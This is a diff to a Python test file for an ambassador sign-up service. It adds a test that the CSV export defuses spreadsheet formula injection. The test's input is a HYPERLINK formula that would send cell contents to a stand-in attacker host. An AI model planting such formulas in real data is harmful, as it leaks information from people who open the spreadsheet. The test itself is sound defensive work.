@@ -396,6 +396,29 @@ def test_import_reports_the_bad_row_and_keeps_the_good_one(stack: StackRun, tmp_
     assert mine[0]["organisation"] == "Madklubben Vest"
 
 
+def test_the_spreadsheet_export_keeps_what_was_typed_as_text(
+    stack: StackRun, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Se mere")'
+    stack.cli(
+        "ambassadors", "sign-up", "--kind", "association", "--name", "Kontakt",
+        "--email", "regneark@example.org", "--organisation", hostile, "--staff", "--consent",
+    ).ok()  # fmt: skip
+    export = tmp_path / "ambassadører.csv"
+    said = stack.cli("ambassadors", "list", "--csv", str(export), "--json").ok().json()
+    total = stack.cli("ambassadors", "list", "--json").ok().json()["total"]
+    assert said == {"file": str(export), "rows": total}
+    with export.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f, delimiter=";"))
+    assert len(rows) == total > 85
+    [mine] = [r for r in rows if r["email"] == "regneark@example.org"]
+    assert mine["organisation"] == "'" + hostile
+    assert not [r for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@")]
+    subscribers = tmp_path / "abonnenter.csv"
+    stack.cli("newsletter", "subscribers", "--csv", str(subscribers)).ok()
+    assert subscribers.read_bytes().startswith(b"\xef\xbb\xbfid;status;source")
+
+
 def test_withdrawal_revokes_the_certificate(stack: StackRun, journey: Journey) -> None:
     ambassador_id = need(journey.ambassador_id, "the ambassador")
     code = need(journey.code, "the verification code")
@@ -528,7 +551,8 @@ def test_a_restart_resumes_from_the_same_data(stack: StackRun, journey: Journey)
     journey.signed_up_events = events = run_sync(
         _count_on_subject(nats_url, SIGNED_UP, stack.nats_login("ambassadors"))
     )
-    assert len(before) == 87  # 85 demo, the imported association, her (erased), nobody else
+    # 85 demo, the imported association, the export's association, her (erased), nobody else
+    assert len(before) == 88
 
     stop_cleanly(stack)
     stack.start()
